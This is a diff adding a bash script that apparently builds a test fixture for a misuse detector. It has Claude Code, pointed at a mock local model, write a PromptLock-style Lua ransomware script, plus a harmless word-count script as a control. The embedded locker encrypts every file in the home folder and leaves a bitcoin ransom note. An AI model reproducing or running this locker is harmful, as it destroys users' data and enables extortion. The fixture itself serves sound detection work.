@@ -1,0 +1,222 @@
+#!/usr/bin/env bash
+# gen-promptlock-fixture.sh: regenerate fixtures/roots/promptlock with a
+# REAL Claude Code release against the scripted mock model
+# (fixtures/cmd/mockmodel). Not run by CI. Needs root (it creates the
+# throwaway home /home/findings-examiner4 and runs the agent as uid 65534 in
+# it), node+npm, go, jq, python3, setpriv (util-linux).
+#
+#   sudo scripts/gen-promptlock-fixture.sh
+#
+# What it replays (all on loopback, all data fake): the PromptLock shape
+# (ESET, August 2025): a local gpt-oss model served by Ollama writes a
+# script that walks the user's files and encrypts them.
+#   1. ~/.ollama/models/manifests/registry.ollama.ai/library/gpt-oss/20b,
+#      the manifest `ollama pull gpt-oss:20b` leaves. SYNTHETIC: ollama is
+#      not run here (no model can be pulled offline); the file has the
+#      layout of ollama/ollama@fb30760 manifest/manifest.go (schemaVersion,
+#      mediaType, config, layers) with made-up digests and sizes.
+#   2. Claude Code, run headless with --model gpt-oss:20b against a
+#      loopback endpoint (as `ollama launch claude` points it at Ollama's
+#      Anthropic-compatible API), told to create ~/vault/lock.lua: a Lua
+#      script that walks the home folder, XOR-"encrypts" each file into
+#      <file>.locked and renames the original away, plus a ransom note. The
+#      script is written, never run. --allowedTools=Write: its guard rails
+#      stay on for everything else.
+#   3. A second session, same model: an ordinary script (a word count over
+#      one file), which must not be flagged.
+#
+# Output (replaced wholesale):
+#   fixtures/roots/promptlock/            home/findings-examiner4/{.claude,.claude.json,.ollama,vault}, etc/hostname
+#   fixtures/roots/promptlock.expect.json what was sent and what the mock logged
+set -euo pipefail
+
+REPO=$(cd "$(dirname "$0")/.." && pwd)
+NAME=promptlock
+ROOT_OUT=$REPO/fixtures/roots/$NAME
+EXPECT_OUT=$REPO/fixtures/roots/$NAME.expect.json
+U=findings-examiner4
+EH=/home/$U
+PROJ=$EH/vault
+RUN_UID=65534
+MODEL=gpt-oss:20b
+WORK=${WORK:-$(mktemp -d /var/tmp/gen-promptlock.XXXXXX)}
+chmod 755 "$WORK"
+
+[ "$(id -u)" = 0 ] || { echo "run as root (creates $EH)" >&2; exit 1; }
+if [ -e "$EH" ] && [ ! -e "$EH/.doubleagent-fixture-home" ]; then
+  echo "$EH exists and was not made by this script; refusing to touch it" >&2; exit 1
+fi
+log() { printf '[gen-pl] %s\n' "$*" >&2; }
+# shellcheck source=lib/fixturegen.sh
+. "$REPO/scripts/lib/fixturegen.sh"
+
+log "work dir $WORK"
+mkdir -p "$WORK/prefix" "$WORK/runs"
+npm install --silent --no-fund --no-audit --prefix "$WORK/prefix" \
+  "@anthropic-ai/claude-code@${CLAUDE_VERSION:-2.1.332}" >"$WORK/npm.log" 2>&1
+V_CLAUDE=$(pkgver @anthropic-ai/claude-code)
+BIN=$WORK/prefix/node_modules/.bin
+log "claude-code $V_CLAUDE"
+chmod -R a+rX "$WORK/prefix"
+
+start_mock
+trap 'kill $MOCK_PID 2>/dev/null || true' EXIT
+
+# ------------------------------------------------------------------ the home
+rm -rf "$EH"
+mkdir -p "$PROJ" "$EH/Documents"
+touch "$EH/.doubleagent-fixture-home"
+printf 'quarterly figures (fake)\n' >"$EH/Documents/q3.txt"
+printf 'notes\n' >"$PROJ/README.md"
+# 1. The model manifest (synthetic, see above).
+MAN=$EH/.ollama/models/manifests/registry.ollama.ai/library/gpt-oss
+mkdir -p "$MAN"
+d() { printf 'sha256:%s' "$(printf 'doubleagent-fixture %s' "$1" | sha256sum | cut -d' ' -f1)"; }
+cat >"$MAN/20b" <<EOF
+{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{"mediaType":"application/vnd.docker.container.image.v1+json","digest":"$(d config)","size":489},"layers":[{"mediaType":"application/vnd.ollama.image.model","digest":"$(d model)","size":13780154624},{"mediaType":"application/vnd.ollama.image.license","digest":"$(d license)","size":11353},{"mediaType":"application/vnd.ollama.image.template","digest":"$(d template)","size":7240},{"mediaType":"application/vnd.ollama.image.params","digest":"$(d params)","size":18}]}
+EOF
+touch -d 2026-11-30T08:00:00Z "$MAN/20b"
+chown -R "$RUN_UID:$RUN_UID" "$EH"
+
+# run_claude SID PROMPT FLAG...: one headless Claude Code run in ~/vault.
+run_claude() {
+  local sid=$1 prompt=$2; shift 2
+  set +e
+  (cd "$PROJ" && timeout 600 setpriv --reuid=$RUN_UID --regid=$RUN_UID --clear-groups \
+    env -i HOME="$EH" USER=$U LOGNAME=$U SHELL=/bin/bash LANG=C.UTF-8 TERM=xterm \
+    PATH="$BIN:$(dirname "$(command -v node)"):/usr/local/bin:/usr/bin:/bin" \
+    DISABLE_AUTOUPDATER=1 DISABLE_TELEMETRY=1 DISABLE_ERROR_REPORTING=1 CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 \
+    ANTHROPIC_BASE_URL="http://$ADDR" ANTHROPIC_API_KEY=dummy NO_COLOR=1 npm_config_offline=true \
+    claude -p "$prompt" --session-id "$sid" --model "$MODEL" "$@" \
+    </dev/null >"$WORK/runs/$sid.out" 2>"$WORK/runs/$sid.err")
+  RC=$?
+  set -e
+}
+
+# 2. The locker script. No backquote may appear in it (the mock's prompt
+#    syntax quotes it with them).
+LOCK='-- lock.lua: generated
+local lfs = require("lfs")
+local home = os.getenv("HOME")
+local key = "k3y-doubleagent-fixture"
+local function walk(dir, out)
+  for name in lfs.dir(dir) do
+    if name ~= "." and name ~= ".." then
+      local p = dir .. "/" .. name
+      local a = lfs.attributes(p)
+      if a and a.mode == "directory" then walk(p, out) else out[#out + 1] = p end
+    end
+  end
+  return out
+end
+local function encrypt(data)
+  local o = {}
+  for i = 1, #data do
+    local k = key:byte((i - 1) % #key + 1)
+    o[i] = string.char(data:byte(i) ~ k)
+  end
+  return table.concat(o)
+end
+for _, p in ipairs(walk(home, {})) do
+  local f = io.open(p, "rb")
+  if f then
+    local data = f:read("a"); f:close()
+    local w = io.open(p .. ".locked", "wb"); w:write(encrypt(data)); w:close()
+    os.rename(p, p .. ".orig")
+  end
+end
+local n = io.open(home .. "/README_RESTORE.txt", "w")
+n:write("Your files are encrypted. Send 0.1 BTC to restore them.\n"); n:close()'
+SID=$(uuid)
+P=$(PROMPT_WRITE "$PROJ/lock.lua" "$LOCK")
+T0=$(now)
+run_claude "$SID" "$P" --allowedTools=Write
+T1=$(now)
+RC1=$RC
+log "claude (locker) exit $RC"
+
+# 3. An ordinary script, same model.
+COUNT='-- count.lua: count the words of one file
+local f = assert(io.open(arg[1], "r"))
+local n = 0
+for _ in f:read("a"):gmatch("%S+") do n = n + 1 end
+f:close()
+print(n)'
+SID2=$(uuid)
+P2=$(PROMPT_WRITE "$PROJ/count.lua" "$COUNT")
+T20=$(now)
+run_claude "$SID2" "$P2" --allowedTools=Write
+T21=$(now)
+RC2=$RC
+log "claude (ordinary) exit $RC"
+kill $MOCK_PID 2>/dev/null || true
+cd /
+
+# ------------------------------------------------------------------ copy + sanitize
+rm -rf "$ROOT_OUT"
+mkdir -p "$ROOT_OUT/home/$U" "$ROOT_OUT/etc"
+printf 'fixture-host-pl\n' >"$ROOT_OUT/etc/hostname"
+for p in .claude .claude.json .ollama vault Documents; do
+  [ -e "$EH/$p" ] && cp -a "$EH/$p" "$ROOT_OUT/home/$U/"
+done
+chown -R 0:0 "$ROOT_OUT"
+python3 - "$ROOT_OUT/home/$U" <<'PY'
+import json, os, shutil, sys
+root = sys.argv[1]
+DROP_DIRS = {"node_modules", "cache", "caches", ".cache", "statsig", "bin"}
+AUTH_FILES = {".credentials.json"}
+LONG, KEEP = 2048, ("doubleagent", "lock.lua", "count.lua")
+def walk(v):
+    if isinstance(v, dict):
+        return {k: walk(x) for k, x in v.items()}
+    if isinstance(v, list):
+        return [walk(x) for x in v]
+    if isinstance(v, str) and len(v.encode()) > LONG and not any(k in v for k in KEEP):
+        return "[doubleagent fixture: vendor text elided, %d bytes]" % len(v.encode())
+    return v
+for dirpath, dirnames, filenames in os.walk(root, topdown=True):
+    for d in list(dirnames):
+        if d in DROP_DIRS:
+            shutil.rmtree(os.path.join(dirpath, d)); dirnames.remove(d)
+    for f in filenames:
+        p = os.path.join(dirpath, f)
+        if os.path.islink(p):
+            os.remove(p); continue
+        if f in AUTH_FILES:
+            open(p, "w").write("REDACTED-FIXTURE"); continue
+        if f.endswith(".jsonl") and "/projects/" in p:
+            st = os.stat(p)
+            out = [json.dumps(walk(json.loads(l)), ensure_ascii=False, separators=(",", ":")) for l in open(p, encoding="utf-8") if l.strip()]
+            open(p, "w", encoding="utf-8").write("".join(l + "\n" for l in out))
+            os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
+PY
+
+# ------------------------------------------------------------------ expect.json
+python3 - "$MOCKLOG" "$EXPECT_OUT" "$P" "$P2" <<PY
+import json, sys
+mock, out, p1, p2 = sys.argv[1:]
+ev = [e for e in (json.loads(l) for l in open(mock)) if e.get("kind") == "event"]
+calls = [{k: e[k] for k in ("tool", "id", "command", "path") if k in e} for e in ev if e["api"] == "anthropic" and e["action"] == "tool_call"]
+json.dump({
+  "generated_by": "scripts/gen-promptlock-fixture.sh",
+  "root": "$NAME", "hostname": "fixture-host-pl", "user": "$U", "home": "$EH", "project_dir": "$PROJ",
+  "model": "$MODEL",
+  "synthetic": ["$EH/.ollama/models/manifests/registry.ollama.ai/library/gpt-oss/20b"],
+  "claude-code": {
+    "package": "@anthropic-ai/claude-code", "version": "$V_CLAUDE",
+    "scenarios": [{
+      "scenario": "locker-script", "session_id": "$SID", "prompt": p1,
+      "command_line": "claude -p PROMPT --session-id $SID --model $MODEL --allowedTools=Write",
+      "started_utc": "$T0", "ended_utc": "$T1", "exit_code": $RC1,
+    }, {
+      "scenario": "ordinary-script", "session_id": "$SID2", "prompt": p2,
+      "command_line": "claude -p PROMPT --session-id $SID2 --model $MODEL --allowedTools=Write",
+      "started_utc": "$T20", "ended_utc": "$T21", "exit_code": $RC2,
+    }],
+    "mock": {"tool_calls": calls},
+  },
+}, open(out, "w"), indent=2, ensure_ascii=False)
+open(out, "a").write("\n")
+PY
+du -sh "$ROOT_OUT" >&2
+log "done; mock log: $MOCKLOG; agent output: $WORK/runs"
